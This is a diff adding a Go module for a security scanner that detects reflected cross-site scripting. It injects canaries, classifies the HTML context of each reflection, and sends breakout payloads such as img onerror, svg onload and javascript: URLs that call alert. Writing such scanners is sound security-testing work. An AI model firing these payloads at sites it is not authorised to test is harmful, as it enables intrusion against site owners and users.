@@ -0,0 +1,149 @@
+// Package xss finds reflected cross-site scripting. Parameters are set to
+// canaries first, whose reflections in the response are classified by their
+// HTML context, which decides the payloads that confirm the injection.
+package xss
+
+import (
+	"mime"
+	"strings"
+
+	"http-proxy/pkg/scanner"
+)
+
+// kPoints are the parameters which are commonly reflected.
+var kPoints = []scanner.PointKind{scanner.PointQuery, scanner.PointForm, scanner.PointJSON}
+
+type check struct{}
+
+// NewCheck returns the reflected cross-site scripting check.
+func NewCheck() scanner.Check {
+	return &check{}
+}
+
+func (c *check) Name() string {
+	return "xss"
+}
+
+func (c *check) Scan(t *scanner.Target) ([]scanner.Finding, error) {
+	points, err := t.InsertionPoints(kPoints...)
+	if err != nil {
+		return nil, err
+	}
+
+	var findings []scanner.Finding
+	for _, point := range points {
+		finding, err := scanPoint(t, point)
+		if err != nil {
+			return findings, err
+		}
+		if finding != nil {
+			findings = append(findings, *finding)
+		}
+	}
+	return findings, nil
+}
+
+// scanPoint locates the reflections of a canary and tries the breakouts of
+// each context until one runs script.
+func scanPoint(t *scanner.Target, point *scanner.InsertionPoint) (*scanner.Finding, error) {
+	canary := scanner.Token()
+	resp, err := send(t, point, canary)
+	if err != nil || !isHTML(resp) {
+		return nil, err
+	}
+
+	seen := make(map[string]bool)
+	for _, r := range findReflections(resp.Body, canary) {
+		if seen[r.String()] {
+			continue
+		}
+		seen[r.String()] = true
+
+		call := "alert(/" + scanner.Token() + "/)"
+		for _, payload := range breakouts(r, call) {
+			resp, err := send(t, point, payload)
+			if err != nil {
+				return nil, err
+			}
+
+			if isHTML(resp) && executes(resp.Body, call) {
+				return &scanner.Finding{
+					Name:           "Reflected cross-site scripting",
+					Severity:       scanner.SeverityHigh,
+					Confidence:     scanner.ConfidenceFirm,
+					Variant:        r.context,
+					InsertionPoint: point.String(),
+					Payload:        payload,
+					Evidence:       scanner.Evidence(resp.Body, []byte(call)),
+					Detail:         "reflected in " + r.String(),
+					RequestID:      resp.RequestID,
+					ResponseID:     resp.ResponseID,
+				}, nil
+			}
+		}
+	}
+	return nil, nil
+}
+
+// breakouts returns the payloads which leave the context of a reflection
+// and run call.
+func breakouts(r reflection, call string) []string {
+	element := []string{"<img src=x onerror=" + call + ">", "<svg onload=" + call + ">"}
+	prefixed := func(prefix string) []string {
+		payloads := make([]string, len(element))
+		for i, payload := range element {
+			payloads[i] = prefix + payload
+		}
+		return payloads
+	}
+
+	quote := ""
+	if r.quote != 0 {
+		quote = string(r.quote)
+	}
+
+	switch r.context {
+	case ContextHTML:
+		return element
+	case ContextComment:
+		return prefixed("-->")
+	case ContextRawText:
+		return prefixed("</" + r.tag + ">")
+	case ContextTag, ContextUnknown:
+		return append(prefixed(">"), prefixed("\">")...)
+	case ContextScript:
+		return append([]string{";" + call + ";//", "\n" + call + "\n"}, prefixed("</script>")...)
+	case ContextScriptString:
+		return append([]string{quote + ";" + call + ";//", quote + "-" + call + "-" + quote, "\\" + quote + ";" + call + ";//"},
+			prefixed("</script>")...)
+	case ContextEventHandler:
+		return append([]string{"';" + call + ";//", "\";" + call + ";//", call}, attributeBreakouts(quote, call, prefixed)...)
+	case ContextURLAttribute:
+		return append([]string{"javascript:" + call}, attributeBreakouts(quote, call, prefixed)...)
+	}
+	return attributeBreakouts(quote, call, prefixed)
+}
+
+// attributeBreakouts close an attribute value to add an event handler or an
+// element.
+func attributeBreakouts(quote, call string, prefixed func(string) []string) []string {
+	return append([]string{quote + " autofocus onfocus=" + call + " x=" + quote}, prefixed(quote+">")...)
+}
+
+func send(t *scanner.Target, point *scanner.InsertionPoint, value string) (*scanner.Response, error) {
+	req, err := t.Inject(point, value)
+	if err != nil {
+		return nil, err
+	}
+	return t.Send(req)
+}
+
+// isHTML tells whether browsers render the response as HTML.
+func isHTML(resp *scanner.Response) bool {
+	contentType := resp.Header.Get("Content-Type")
+	if contentType == "" {
+		return true
+	}
+	mediaType, _, _ := mime.ParseMediaType(contentType)
+	return mediaType == "text/html" || mediaType == "application/xhtml+xml" || strings.HasSuffix(mediaType, "+html")
+}